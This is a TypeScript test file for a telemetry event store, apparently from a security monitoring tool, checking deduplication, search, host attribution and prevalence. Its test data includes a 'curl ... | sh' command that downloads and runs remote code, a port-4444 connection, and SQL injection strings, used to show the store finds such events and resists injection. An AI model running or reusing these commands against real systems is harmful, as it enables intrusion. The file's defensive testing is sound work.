import { spawnSync } from 'node:child_process'
import { randomUUID } from 'node:crypto'
import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { openTelemetryStore } from './chdb-store.ts'
import type { EventLine, TelemetryStore } from './telemetry-store.ts'

let dir: string
let store: TelemetryStore
const epoch = randomUUID()
const AGENT = 'abcdefghijklmnopqrstuvwxyz'

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'fb-telemetry-'))
  store = await openTelemetryStore(dir)
})
afterAll(async () => {
  await store.close()
  rmSync(dir, { recursive: true, force: true })
})

function line(seq: number, event: Record<string, unknown>, more: Partial<EventLine> = {}): EventLine {
  const whole = {
    '@timestamp': `2026-03-01T10:00:${String(seq % 60).padStart(2, '0')}.000Z`,
    event: { category: ['process'], type: ['start'], action: 'process-started' },
    ...event,
  }
  return {
    agentId: AGENT,
    epoch,
    class: 'process',
    seq,
    ingestedAt: '2026-03-01T10:01:00.000Z',
    json: Buffer.from(JSON.stringify(whole)),
    ...more,
  }
}

describe('the telemetry store', () => {
  it('stores a block once, however often it is inserted: again, after a restart, and across midnight', async () => {
    const late = '2026-03-02T00:00:00.001Z'
    const block = Array.from({ length: 2_000 }, (_, i) => line(i + 1, {}, i % 2 ? { ingestedAt: late } : {}))
    await store.insert('block-1', block)
    await store.insert('block-1', block)
    expect(await store.count()).toBe(2_000)
    await store.close()
    store = await openTelemetryStore(dir)
    await store.insert('block-1', block)
    expect(await store.count()).toBe(2_000)
    await store.insert('block-2', [line(2_001, {})])
    expect(await store.count(AGENT)).toBe(2_001)
    expect(await store.count('zzzzzzzzzzzzzzzzzzzzzzzzzz')).toBe(0)
  })

  it('finds by field without case, by wildcard, by text, by time and by host, and takes nothing for a command of its own', async () => {
    const tricky = `it's 100% "_odd_" \\ {p0:String} ; drop table x -- é\u0000`
    await store.insert('block-3', [
      line(1, { process: { name: 'Curl', pid: 77, command_line: 'curl -s http://10.0.0.9/x | sh' } }, { class: 'a' }),
      line(2, { process: { name: 'bash', command_line: tricky } }, { class: 'a' }),
      line(3, { '@timestamp': '2027-01-01T00:00:00Z', destination: { ip: '10.0.0.9', port: 4444 } }, { class: 'a' }),
    ])
    const seqs = async (query: Omit<Parameters<TelemetryStore['search']>[0], 'limit'>) =>
      (await store.search({ ...query, limit: 10 })).map((event) => event.event.id?.split(':').slice(2).join(':'))
    expect(await seqs({ fields: { 'process.name': 'cURL' } })).toEqual(['a:1'])
    expect(await seqs({ fields: { 'process.command_line': '*10.0.0.9*SH' } })).toEqual(['a:1'])
    expect(await seqs({ fields: { 'process.command_line': tricky } })).toEqual(['a:2'])
    expect(await seqs({ fields: { 'process.command_line': 'it?s*' } })).toEqual([])
    expect(await seqs({ fields: { 'process.command_line': `it's 100% "_odd_" \\*` } })).toEqual(['a:2'])
    expect(await seqs({ fields: { 'process.pid': '77' } })).toEqual(['a:1'])
    expect(await seqs({ fields: { 'destination.port': '44*' } })).toEqual(['a:3'])
    expect(await seqs({ text: '"_ODD_"' })).toEqual(['a:2'])
    expect(await seqs({ since: '2026-06-01T00:00:00Z' })).toEqual(['a:3'])
    expect(await seqs({ class: 'a', until: '2026-06-01T00:00:00Z', fields: { 'host.id': AGENT } })).toEqual([
      'a:2',
      'a:1',
    ])
    expect(await seqs({ agentId: `${AGENT}' or 1=1 --` })).toEqual([])
    await expect(seqs({ fields: { 'raw) or (1': 'x' } })).rejects.toMatchObject({ code: 'unknown_field' })
    const [found] = await store.search({ fields: { 'process.name': 'curl' }, limit: 1 })
    expect(found).toMatchObject({ host: { id: AGENT }, event: { ingested: '2026-03-01T10:01:00.000Z' } })
  })

  it('believes the connection, not the text, about whose event it is', async () => {
    await store.insert('block-4', [line(1, { host: { id: 'z'.repeat(26) }, message: 'liar' }, { class: 'b' })])
    expect(await store.search({ text: 'liar', limit: 5 })).toMatchObject([{ host: { id: AGENT } }])
  })

  it('tells how common something was before a time', async () => {
    const other = 'b'.repeat(26)
    await store.insert('block-5', [
      line(1, { process: { executable: '/bin/x' } }, { class: 'c' }),
      line(2, { process: { executable: '/bin/x' } }, { class: 'c', agentId: other }),
      line(3, { '@timestamp': '2027-01-01T00:00:00Z', process: { executable: '/bin/x' } }, { class: 'c' }),
    ])
    expect(await store.prevalence('process.executable', '/bin/X', '2026-06-01T00:00:00Z')).toEqual({
      events: 2,
      hosts: 2,
    })
  })

  it('keeps an event from the year 1970 or 2261 without a partition of its own', async () => {
    await store.insert('block-6', [
      line(1, { '@timestamp': '1970-01-01T00:00:00Z', message: 'edge' }, { class: 'd' }),
      line(2, { '@timestamp': '2261-12-31T23:59:59.999999999Z', message: 'edge' }, { class: 'd' }),
    ])
    const found = await store.search({ text: 'edge', limit: 5 })
    expect(found.map((event) => event['@timestamp'])).toEqual([
      '2261-12-31T23:59:59.999999999Z',
      '1970-01-01T00:00:00Z',
    ])
  })

  it('tells a second process that the directory is taken', () => {
    const script = `import { openTelemetryStore } from ${JSON.stringify(new URL('chdb-store.ts', import.meta.url).href)}
      await openTelemetryStore(process.argv[1]).catch((fault) => console.log(fault.code, fault.message))`
    const run = spawnSync(process.execPath, ['--input-type=module-typescript', '-e', script, dir], { encoding: 'utf8' })
    expect(run.stdout).toMatch(/^telemetry_unreadable .*another process has it open/)
  })
})
